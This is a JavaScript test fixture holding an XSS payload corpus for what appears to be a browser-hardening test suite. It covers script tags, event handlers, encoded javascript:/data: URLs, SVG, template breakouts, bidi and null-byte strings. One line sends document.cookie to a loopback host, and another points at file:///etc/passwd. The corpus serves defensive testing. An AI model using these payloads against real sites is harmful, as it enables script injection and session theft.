// The injection corpus of the hostile-world suite, in the style of the OWASP XSS Filter Evasion Cheat Sheet:
// script tags, event handlers, javascript:/data:/vbscript: URLs with encodings and whitespace tricks, SVG/MathML,
// template and context breakouts, very long strings, bidi overrides, null bytes, malformed escapes.
//
// Every payload that would run code calls alert()/confirm()/prompt()/print() or touches window.__xss: the pages of
// this suite trap all of them (test/hostile/pages/trap.js), so any execution anywhere is counted.
// Every host in a payload is loopback (127.0.0.1 port 9, a port Chromium refuses to connect to): a payload that
// turned into a request could never leave this machine. corpus.test.ts checks both rules.
//
// Plain ES module (no TypeScript) so the test pages and the Node-side routes (test/hostile/server) share it.

const B = 'https://127.0.0.1:9'; // the blackhole host used by every URL payload

/** Hand-written payloads: [kind, value]. */
const HANDWRITTEN = [
  // --- script tags -------------------------------------------------------------------------------------------
  ['script', '<script>alert(1)</script>'],
  ['script', '<SCRIPT SRC=//127.0.0.1:9/xss.js></SCRIPT>'],
  ['script', '<script src="//127.0.0.1:9/xss.js"></script>'],
  ['script', '<SCRIPT/XSS SRC="//127.0.0.1:9/xss.js"></SCRIPT>'],
  ['script', '<SCRIPT/SRC="//127.0.0.1:9/xss.js"></SCRIPT>'],
  ['script', '<<SCRIPT>alert("XSS");//\\<</SCRIPT>'],
  ['script', '<SCRIPT SRC=//127.0.0.1:9/.j>'],
  ['script', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['script', '"><script>alert(1)</script>'],
  ['script', "'><script>alert(1)</script>"],
  ['script', '</script><script>alert(1)</script>'],
  ['script', '<script>alert(String.fromCharCode(88,83,83))</script>'],
  ['script', '<SCRIPT a=">" SRC="//127.0.0.1:9/xss.js"></SCRIPT>'],
  ['script', '<SCRIPT "a=\'>\'" SRC="//127.0.0.1:9/xss.js"></SCRIPT>'],
  ['script', '<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="//127.0.0.1:9/xss.js"></SCRIPT>'],
  ['script', '<script type="text/javascript">window.__xss = 1;</script>'],
  ['script', '<script type="module">alert(1)</script>'],
  ['script', '<script>eval(atob("YWxlcnQoMSk="))</script>'],
  ['script', '<SCRIPT>a=/XSS/\nalert(a.source)</SCRIPT>'],
  ['script', '<script\x0Dtype="text/javascript">alert(1)</script>'],
  ['script', '<script\x0Calert(1)</script>'],
  ['script', '<script>/*</script><script>*/alert(1)</script>'],
  // --- event handlers ------------------------------------------------------------------------------------------
  ['handler', '<img src=x onerror=alert(1)>'],
  ['handler', '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>'],
  ['handler', '<img src=x:alert(alt) onerror=eval(src) alt=0>'],
  ['handler', '<IMG SRC=# onmouseover="alert(\'xxs\')">'],
  ['handler', '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">'],
  ['handler', '<svg onload=alert(1)>'],
  ['handler', '<svg/onload=alert(1)//'],
  ['handler', '<body onload=alert(1)>'],
  ['handler', '<BODY ONLOAD=alert(\'XSS\')>'],
  ['handler', '<input autofocus onfocus=alert(1)>'],
  ['handler', '<select autofocus onfocus=alert(1)>'],
  ['handler', '<textarea autofocus onfocus=alert(1)>'],
  ['handler', '<details open ontoggle=alert(1)>'],
  ['handler', '<video><source onerror="alert(1)">'],
  ['handler', '<audio src=x onerror=alert(1)>'],
  ['handler', '<marquee onstart=alert(1)>XSS</marquee>'],
  ['handler', '<iframe onload=alert(1)></iframe>'],
  ['handler', '<div onpointerover="alert(1)" style="position:fixed;inset:0">x</div>'],
  ['handler', '<a onmouseover="alert(document.cookie)">xxs link</a>'],
  ['handler', '<form><button formaction=javascript:alert(1)>X</button></form>'],
  ['handler', '<isindex type=image src=1 onerror=alert(1)>'],
  ['handler', '<object data=javascript:alert(1)></object>'],
  ['handler', '<embed src=javascript:alert(1)>'],
  ['handler', '<link rel=stylesheet href=javascript:alert(1)>'],
  ['handler', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ['handler', '<style onload=alert(1)></style>'],
  ['handler', '<img src="x` `<script>alert(1)</script>"` `>'],
  ['handler', '<img src onerror /" \'"= alt=alert(1)//">'],
  ['handler', '<x contenteditable onblur=alert(1)>lose focus!</x>'],
  ['handler', '<a href="#" onclick="alert(1);return false">klik</a>'],
  ['handler', '" onmouseover="alert(1)'],
  ['handler', "' onfocus='alert(1)' autofocus='"],
  ['handler', 'x" onerror="alert(1)'],
  ['handler', ' autofocus onfocus=alert(1) x='],
  ['handler', 'onerror=alert(1)'],
  ['handler', '"/><img src=x onerror=alert(1)>'],
  ['handler', '\'/><svg onload=alert(1)>'],
  ['handler', '`-alert(1)-`'],
  ['handler', '";alert(1);//'],
  ['handler', "';alert(1);//"],
  ['handler', '\\";alert(1);//'],
  ['handler', '</a><a href=javascript:alert(1)>klik</a>'],
  // --- javascript: / data: / vbscript: and other schemes -------------------------------------------------------
  ['url', 'javascript:alert(1)'],
  ['url', 'JaVaScRiPt:alert(1)'],
  ['url', 'javascript:alert(document.domain)//'],
  ['url', 'javascript://%0aalert(1)'],
  ['url', 'javascript://' + B + '/%0Aalert(1)'],
  ['url', 'javascript&colon;alert(1)'],
  ['url', 'jAvAsCrIpT&colon;alert&lpar;1&rpar;'],
  ['url', 'javascript:alert&#40;1&#41;'],
  ['url', '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;'],
  ['url', '&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041'],
  ['url', '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29'],
  ['url', 'jav&#x09;ascript:alert(1)'],
  ['url', 'jav&#x0A;ascript:alert(1)'],
  ['url', 'jav&#x0D;ascript:alert(1)'],
  ['url', 'java&Tab;script:alert(1)'],
  ['url', 'java&NewLine;script:alert(1)'],
  ['url', ' &#14;  javascript:alert(1)'],
  ['url', '%6A%61%76%61%73%63%72%69%70%74%3Aalert(1)'],
  ['url', 'javascript%3Aalert(1)'],
  ['url', 'javas\u00ADcript:alert(1)'],
  ['url', 'javascript\u2028:alert(1)'],
  ['url', 'java\u200Bscript:alert(1)'],
  ['url', '\uFEFFjavascript:alert(1)'],
  ['url', '\u00A0javascript:alert(1)'],
  ['url', 'javascript:/*--></title></style></textarea></script></xmp><svg/onload=\'+/"/+/onmouseover=1/+/[*/[]/+alert(1)//\'>'],
  ['url', 'javascript:"/*\'/*`/*--></noscript></title></textarea></style></template></noembed></script><html " onmouseover=/*&lt;svg/*/onload=alert()//>'],
  ['url', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='],
  ['url', 'data:text/html,<script>alert(1)</script>'],
  ['url', 'DaTa:text/html,<script>alert(1)</script>'],
  ['url', 'data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4='],
  ['url', 'data:application/javascript,alert(1)'],
  ['url', 'data:,alert(1)'],
  ['url', 'data&colon;text/html,<script>alert(1)</script>'],
  ['url', 'vbscript:msgbox("XSS")'],
  ['url', 'VBSCRIPT:alert(1)'],
  ['url', 'vbscript&colon;alert(1)'],
  ['url', 'livescript:alert(1)'],
  ['url', 'mocha:alert(1)'],
  ['url', 'file:///etc/passwd'],
  ['url', 'blob:' + B + '/0f6a3e1c-0000-4000-8000-000000000000'],
  ['url', 'filesystem:' + B + '/temporary/x'],
  ['url', 'view-source:' + B + '/'],
  ['url', 'intent://scan/#Intent;scheme=zxing;end'],
  ['url', 'ms-its:mhtml:file://C:\\foo.mht!' + B + '/x.chm::/x.htm'],
  ['url', 'jar:' + B + '/x.jar!/'],
  ['url', 'whatsapp://send?text=hello'],
  ['url', 'tel:javascript:alert(1)'],
  ['url', 'tel:%E0%A4%A'],
  ['url', 'sms:%'],
  ['url', 'mailto:%zz@x.invalid'],
  ['url', 'tel:08001000<img src=x onerror=alert(1)>'],
  ['url', 'tel:+62 812 3456 7890;ext=<svg onload=alert(1)>'],
  ['url', B + '/62812<script>alert(1)</script>'],
  ['url', 'https://kemlu.go.id@127.0.0.1:9/'],
  ['url', 'https://user:pass@127.0.0.1:9/'],
  ['url', 'http://0x7f.0x0.0x0.0x1:9/'],
  ['url', 'http://2130706433:9/'],
  ['url', 'http://0177.0.0.01:9/'],
  ['url', 'h\ntt\tp://127.0.0.1:9/'],
  ['url', '//127.0.0.1:9/'],
  ['url', '\\\\127.0.0.1:9\\x'],
  ['url', 'https:127.0.0.1:9'],
  ['url', 'https:/\\127.0.0.1:9/'],
  ['url', 'javascript:document.location=\'http://127.0.0.1:9/?\'+document.cookie'],
  // --- SVG and MathML ------------------------------------------------------------------------------------------
  ['svg', '<svg><script>alert(1)</script></svg>'],
  ['svg', '<svg><script href="data:,alert(1)" /></svg>'],
  ['svg', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>'],
  ['svg', '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>'],
  ['svg', '<svg><set attributeName="href" to="javascript:alert(1)" /></svg>'],
  ['svg', '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48aW1hZ2UgaHJlZj0neCcgb25lcnJvcj0nYWxlcnQoMSknLz48L3N2Zz4=#x" /></svg>'],
  ['svg', '<svg><foreignObject><iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe></foreignObject></svg>'],
  ['svg', '<svg><style><img src=x onerror=alert(1)></style></svg>'],
  ['svg', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
  ['svg', '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">klik</maction></math>'],
  ['svg', '<svg><image href=x onerror=alert(1) /></svg>'],
  ['svg', '<svg version="1.1"><path d="M0 0" onload="alert(1)"/></svg>'],
  ['svg', 'M0 0L24 24" /><script>alert(1)</script><path d="'],
  // --- template, context and parser breakouts ------------------------------------------------------------------
  ['template', '${alert(1)}'],
  ['template', '{{constructor.constructor(\'alert(1)\')()}}'],
  ['template', '#{alert(1)}'],
  ['template', '<%= alert(1) %>'],
  ['template', '{{7*7}}'],
  ['template', '</template><script>alert(1)</script>'],
  ['template', '<template shadowrootmode="open"><img src=x onerror=alert(1)></template>'],
  ['template', '</style><script>alert(1)</script>'],
  ['template', '</textarea><script>alert(1)</script>'],
  ['template', '</title><script>alert(1)</script>'],
  ['template', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['template', '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>'],
  ['template', '<!--<img src="--><img src=x onerror=alert(1)//">'],
  ['template', '<![CDATA[<script>alert(1)</script>]]>'],
  ['template', '<?xml version="1.0"?><script>alert(1)</script>'],
  ['template', 'lit$123456789$'],
  ['template', '<?lit$123456789$>'],
  ['template', '<!--?lit$123456789$-->'],
  ['template', '$lit$'],
  ['template', '<slot name="x"></slot><img src=x onerror=alert(1)>'],
  ['template', '[[gaji|<img src=x onerror=alert(1)>]]'],
  ['template', '[[gaji|[[gaji|nested]]]]'],
  ['template', '[[|]] [[x|]] [[|y]] [[ [[ ]] ]]'],
  ['template', '<base href="javascript:alert(1)//">'],
  ['template', '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>'],
  ['template', '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">'],
  ['template', '<DIV STYLE="width: expression(alert(\'XSS\'));">'],
  ['template', '<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert(\'XSS\')"></B></I></XML>'],
  ['template', '<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>'],
  ['template', '<TABLE BACKGROUND="javascript:alert(\'XSS\')">'],
  ['template', '<BR SIZE="&{alert(\'XSS\')}">'],
  // --- CSS and attribute-value injection (theme, position, ids) -----------------------------------------------
  ['css', "dark'] , * { display: none } [x='"],
  ['css', 'dark" onmouseover="alert(1)'],
  ['css', '</style><style>*{display:none!important}</style>'],
  ['css', 'expression(alert(1))'],
  ['css', 'url(javascript:alert(1))'],
  ['css', "@import '//127.0.0.1:9/x.css';"],
  ['css', 'x;background:url(//127.0.0.1:9/x.png)'],
  ['css', 'top-right; z-index: 0'],
  ['css', 'kp2mi,"><img src=x onerror=alert(1)>'],
  ['css', 'kp2mi, sapa129 <svg onload=alert(1)>'],
  // --- prototype and JavaScript names ---------------------------------------------------------------------------
  ['names', '__proto__'],
  ['names', 'constructor'],
  ['names', 'prototype'],
  ['names', 'toString'],
  ['names', 'hasOwnProperty'],
  ['names', '__proto__,constructor,valueOf'],
  // --- numbers ----------------------------------------------------------------------------------------------------
  ['number', 'NaN'],
  ['number', 'Infinity'],
  ['number', '-1'],
  ['number', '1e309'],
  ['number', '0x10'],
  ['number', '9007199254740993'],
  ['number', '-0'],
  ['number', '5e-324'],
  ['number', '1/0'],
  // --- encodings --------------------------------------------------------------------------------------------------
  ['encoding', '%3Cscript%3Ealert(1)%3C%2Fscript%3E'],
  ['encoding', '&lt;script&gt;alert(1)&lt;/script&gt;'],
  ['encoding', '&#60script&#62alert(1)&#60/script&#62'],
  ['encoding', '&#x3C;img src=x onerror=alert(1)&#x3E;'],
  ['encoding', '\\x3cscript\\x3ealert(1)\\x3c/script\\x3e'],
  ['encoding', '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e'],
  ['encoding', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-'],
  ['encoding', '\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E'],
  ['encoding', '%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE'],
  ['encoding', 'PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='],
  ['encoding', '\u00BCscript\u00BEalert(\u00A2XSS\u00A2)\u00BC/script\u00BE'],
  // --- bidi overrides and invisible characters -------------------------------------------------------------------
  ['bidi', '\u202Egnp.exe'],
  ['bidi', 'KP2MI \u202E0001-008-0\u202C'],
  ['bidi', '0800\u202E0001'],
  ['bidi', 'kp2mi\u202E'],
  ['bidi', '\u2066\u2067\u2068evil\u2069\u2069\u2069'],
  ['bidi', '\u200F\u200E\u061C\u200Bsapa129'],
  ['bidi', '\u202A\u202B\u202Dhttps://127.0.0.1:9/\u202C'],
  ['bidi', 'https://127.0.0.1:9/\u202E/moc.elgoog'],
  ['bidi', 'kp2m\u0456'],
  ['bidi', '\uD800'],
  ['bidi', '\uDFFFa\uD83D'],
  ['bidi', 'Z\u0337\u0327\u031B\u034E\u034D\u0319a\u0321\u031B\u031Dl\u0336g\u0335o'.repeat(40)],
  ['bidi', 'line\u2028separator\u2029paragraph\r\nCRLF'],
  // --- null bytes and control characters ------------------------------------------------------------------------
  ['nul', '\u0000'],
  ['nul', '<scr\u0000ipt>alert(1)</scr\u0000ipt>'],
  ['nul', 'java\u0000script:alert(1)'],
  ['nul', '\u0000javascript:alert(1)'],
  ['nul', '%00'],
  ['nul', 'kp2mi\u0000,sapa129'],
  ['nul', '0800\u00001000'],
  ['nul', '\u0001\u0002\u0003\u0004\u0005\u0006\u0007\u0008\u000B\u000C\u000E\u000F\u001F\u007F\u0085\u009F'],
  ['nul', '<img\u0000src=x\u0000onerror=alert(1)>'],
  // --- empty and whitespace ---------------------------------------------------------------------------------------
  ['empty', ''],
  ['empty', ' '],
  ['empty', '\t\n\r\f'],
  ['empty', '\u3000\u00A0\u2003'],
  ['empty', '"'],
  ['empty', "'"],
  ['empty', '`'],
  ['empty', '<'],
  ['empty', '>'],
  ['empty', '&'],
  ['empty', ','],
  ['empty', ',,,,'],
];

/** Very long strings: a hostile page must not freeze a cheap phone or blow up a layout. */
const LONG = [
  ['long', 'A'.repeat(10000)],
  ['long', '<script>alert(1)</script>'.repeat(2000)],
  ['long', '9'.repeat(100000)],
  ['long', 'kp2mi,'.repeat(20000)],
  ['long', B + '/' + 'a'.repeat(100000)],
  ['long', 'javascript:' + ' '.repeat(5000) + 'alert(1)'],
  ['long', '\u202E'.repeat(5000) + 'x'],
  ['long', '[['.repeat(20000)],
  ['long', '\uD83D\uDC69\u200D\uD83D\uDC69\u200D\uD83D\uDC67'.repeat(3000)],
];

/**
 * Generated variants of javascript:/data:/vbscript: URLs, the cheat sheet's "whitespace and encoding" family:
 * each base URL with each trick applied.
 */
const URL_BASES = ['javascript:alert(1)', 'data:text/html,<svg onload=alert(1)>', 'vbscript:alert(1)', 'javascript:window.__xss=1', 'JAVASCRIPT:confirm(1)'];
const URL_TRICKS = [
  ['leading space', (u) => ' ' + u],
  ['leading control', (u) => '\u0001\u0010' + u],
  ['tab in scheme', (u) => u.slice(0, 3) + '\t' + u.slice(3)],
  ['newline in scheme', (u) => u.slice(0, 2) + '\n' + u.slice(2)],
  ['CR in scheme', (u) => u.slice(0, 4) + '\r' + u.slice(4)],
  ['NUL in scheme', (u) => u.slice(0, 1) + '\u0000' + u.slice(1)],
  ['entity colon', (u) => u.replace(':', '&#58;')],
  ['hex entity colon', (u) => u.replace(':', '&#x3a;')],
  ['percent colon', (u) => u.replace(':', '%3A')],
  ['upper case', (u) => u.toUpperCase()],
  ['quoted', (u) => `"${u}"`],
  ['zero-width joiner', (u) => u.slice(0, 4) + '\u200D' + u.slice(4)],
];

function generated() {
  const out = [];
  for (const base of URL_BASES) for (const [name, trick] of URL_TRICKS) out.push(['url-variant', trick(base), `${name}: ${base.slice(0, 12)}`]);
  return out;
}

/** @type {{id: number, kind: string, value: string, note?: string}[]} */
export const PAYLOADS = [...HANDWRITTEN, ...LONG, ...generated()].map(([kind, value, note], id) => ({ id, kind, value, ...(note ? { note } : {}) }));

/** Hosts a payload may name: loopback only. */
export const LOOPBACK_HOSTS = ['127.0.0.1', 'localhost', '[::1]'];

/** Every host named in `text` (scheme://host or //host forms), after URL normalisation; '' when unparseable. */
export function hostsIn(text) {
  const hosts = [];
  const pattern = /(?:[a-z][a-z0-9+.-]*:)?\/\/[^\s"'<>`\\]+/gi;
  for (const match of text.matchAll(pattern)) {
    try {
      const url = new URL(match[0], 'http://base.invalid/');
      if (url.protocol === 'http:' || url.protocol === 'https:') hosts.push(url.hostname);
    } catch {
      // Not a URL: cannot be requested either.
    }
  }
  return hosts;
}
